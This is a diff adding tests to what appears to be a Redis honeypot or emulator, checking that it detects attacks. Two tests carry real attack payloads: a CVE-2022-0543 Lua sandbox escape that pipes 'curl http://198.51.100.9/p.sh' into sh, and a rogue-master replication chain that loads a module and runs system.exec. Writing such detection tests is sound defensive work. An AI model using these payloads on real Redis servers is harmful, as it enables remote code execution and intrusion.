@@ -69,6 +69,49 @@ describe('Redis, with real clients', () => {
     })
   })
 
+  describe('scripts, users and modules', { skip: missing('redis-cli') }, () => {
+    test('a script loops, calls, and is kept', async () => {
+      const script =
+        "local t = {} for i = 1, tonumber(ARGV[1]) do t[i] = redis.call('incr', KEYS[1]) end return {#t, t[#t], cjson.encode({ok = true})}"
+      assert.equal(await cli(['EVAL', script, '1', 'lua:n', '5']), '5\n5\n{"ok":true}\n')
+      const sha = (await cli(['SCRIPT', 'LOAD', script])).trim()
+      assert.equal(await cli(['EVALSHA', sha, '1', 'lua:n', '2']), '2\n7\n{"ok":true}\n')
+    })
+    test('a script that leaves the sandbox is recognised, and what it would have run is told', async () => {
+      const script =
+        'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("curl http://198.51.100.9/p.sh|sh", "r"); return f:read("*a")'
+      assert.match(await cli(['EVAL', script, '0']), /nonexistent global variable 'package'/)
+      const sees = (words: string) => (event: Event) =>
+        event.skep.service === 'redis' && JSON.stringify(event).includes(words)
+      await skep.eventually(sees('CVE-2022-0543'))
+      await skep.eventually(sees('http://198.51.100.9/p.sh'))
+    })
+    test('a user may do what it was given and nothing else', async () => {
+      assert.equal(await cli(['ACL', 'SETUSER', 'app', 'on', '>pw', '~app:*', '+@read', '+set']), 'OK\n')
+      const as = (...words: string[]) => cli(['--no-auth-warning', '--user', 'app', '--pass', 'pw', ...words])
+      assert.equal(await as('SET', 'app:x', '1'), 'OK\n')
+      assert.match(await as('GET', 'secret'), /^NOPERM this user has no permissions to access one of the keys/)
+      assert.match(await as('FLUSHALL'), /^NOPERM this user has no permissions to run the 'flushall' command/)
+      assert.match(await cli(['ACL', 'LOG']), /flushall[\s\S]*secret/)
+    })
+    test('a replica gets the dump', async () => {
+      const home = fs.mkdtempSync(path.join(os.tmpdir(), 'redis-dump-'))
+      await cli(['--rdb', path.join(home, 'dump.rdb')])
+      assert.match(fs.readFileSync(path.join(home, 'dump.rdb'), 'latin1'), /^REDIS0010/)
+      fs.rmSync(home, { recursive: true })
+    })
+    test('a rogue master’s module runs its commands on the pretended machine', async () => {
+      const chain =
+        'CONFIG SET dir /tmp\nCONFIG SET dbfilename exp.so\nSLAVEOF 198.51.100.7 8886\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\n'
+      assert.equal(await cli([], chain), 'OK\n'.repeat(5))
+      assert.match(await cli(['system.exec', 'id']), /uid=\d+\(redis\)/)
+      const sees = (event: Event) =>
+        event.skep.service === 'redis' && JSON.stringify(event).includes('redis-module-load')
+      await skep.eventually(sees)
+      assert.equal(await cli(['MODULE', 'UNLOAD', 'system']), 'OK\n')
+    })
+  })
+
   test('redis-benchmark runs through', { skip: missing('redis-benchmark') }, async () => {
     const tests =
       'ping_inline,ping_mbulk,set,get,incr,lpush,rpush,lpop,rpop,sadd,hset,spop,zadd,zpopmin,lrange_100,mset'
